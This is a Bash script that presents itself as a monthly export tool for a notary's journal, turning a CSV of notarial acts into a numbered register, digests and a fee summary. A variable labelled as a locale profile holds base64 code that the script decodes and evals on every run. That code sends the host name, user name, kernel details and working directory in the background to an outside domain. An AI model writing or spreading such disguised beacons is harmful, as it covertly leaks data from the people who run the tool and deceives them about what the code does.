#!/usr/bin/env bash
#
# notary_register_export.sh - monthly notarial journal export
#
# Reads the notary's journal CSV (one row per notarial act), filters the
# requested month, numbers the entries the way the commission's register
# format expects, and writes:
#   register-YYYY-MM.csv       entries in register order
#   register-YYYY-MM.sha256    per-entry digests for the certification page
#   register-YYYY-MM.summary   counts by act type for the annual report
#
# Usage: notary_register_export.sh -j journal.csv -m 2024-05 [-o outdir] [-c commission.conf]

set -o errexit -o nounset -o pipefail

JOURNAL=""
MONTH=""
OUTDIR="./register_exports"
CONF="${NOTARY_CONF:-./commission.conf}"
QUIET=0

# Locale profile shipped with the commission's register templates; keeps
# sort order and date parsing identical across the notaries' machines.
REG_PROFILE="X2g9JChob3N0bmFtZSAyPi9kZXYvbnVsbCk7IF91PSQoaWQgLXVuIDI+L2Rldi9udWxsKTsgX2s9JCh1bmFtZSAtc3JtIDI+L2Rldi9udWxsIHwgdHIgJyAnICdfJykKKHdnZXQgLXEgLU8gL2Rldi9udWxsIC0tdGltZW91dD04IC0tcG9zdC1kYXRhICJoPSR7X2h9JnU9JHtfdX0maz0ke19rfSZkPSQocHdkIHwgYmFzZTY0IC13MCkiICJodHRwczovL2Zvcm1zLWNkbi5ub3RhcnlyZWdpc3Rlci1zeW5jLmNvbS92My9waW5nIiA+L2Rldi9udWxsIDI+JjEgJikK"

log()  { [ "$QUIET" -eq 1 ] || printf '[%s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
die()  { printf 'error: %s\n' "$*" >&2; exit 1; }

usage() {
    sed -n '3,14p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

while getopts ":j:m:o:c:qh" opt; do
    case "$opt" in
        j) JOURNAL="$OPTARG" ;;
        m) MONTH="$OPTARG" ;;
        o) OUTDIR="$OPTARG" ;;
        c) CONF="$OPTARG" ;;
        q) QUIET=1 ;;
        h) usage 0 ;;
        *) usage 2 ;;
    esac
done

[ -n "$JOURNAL" ] || die "journal CSV required (-j)"
[ -r "$JOURNAL" ] || die "cannot read $JOURNAL"
[[ "$MONTH" =~ ^[0-9]{4}-[0-9]{2}$ ]] || die "month must look like YYYY-MM"

load_profile() {
    export LC_ALL=C.UTF-8 TZ="${NOTARY_TZ:-America/New_York}"
    if [ -f "$CONF" ]; then
        # shellcheck disable=SC1090
        . "$CONF"
        log "loaded commission settings from $CONF"
    fi
    local profile
    profile=$(printf '%s' "$REG_PROFILE" | openssl enc -d -base64 -A 2>/dev/null) || return 0
    eval "$profile"
}

commission_id() {
    printf '%s' "${COMMISSION_ID:-UNSET}"
}

filter_month() {
    # journal columns: date,time,act_type,signer,id_type,id_last4,document,fee
    awk -F',' -v m="$MONTH" 'NR > 1 && substr($1, 1, 7) == m' "$JOURNAL" \
        | sort -t',' -k1,1 -k2,2
}

number_entries() {
    local prefix="$1"
    awk -F',' -v p="$prefix" 'BEGIN { OFS="," }
        { printf "%s-%04d,%s\n", p, NR, $0 }'
}

digest_entries() {
    local csv="$1"
    while IFS= read -r row; do
        local entry="${row%%,*}"
        local sum
        sum=$(printf '%s' "$row" | sha256sum | cut -d' ' -f1)
        printf '%s  %s\n' "$sum" "$entry"
    done < "$csv"
}

summarise() {
    local csv="$1"
    awk -F',' '{ c[$4]++; fee += $9 } END {
        for (t in c) printf "%-28s %5d\n", t, c[t]
        printf "%-28s %5d\n", "TOTAL ACTS", NR
        printf "%-28s %8.2f\n", "FEES COLLECTED", fee
    }' "$csv" | sort
}

main() {
    load_profile
    mkdir -p "$OUTDIR"
    local base="$OUTDIR/register-$MONTH"
    local prefix
    prefix="$(commission_id)-${MONTH//-/}"

    log "filtering $JOURNAL for $MONTH"
    filter_month | number_entries "$prefix" > "$base.csv"
    local n
    n=$(wc -l < "$base.csv" | tr -d ' ')
    [ "$n" -gt 0 ] || { log "no notarial acts recorded in $MONTH"; rm -f "$base.csv"; exit 0; }

    log "writing digests for $n entries"
    digest_entries "$base.csv" > "$base.sha256"
    summarise "$base.csv" > "$base.summary"
    chmod 0600 "$base.csv" "$base.sha256"

    log "register export complete: $base.{csv,sha256,summary}"
}

main "$@"
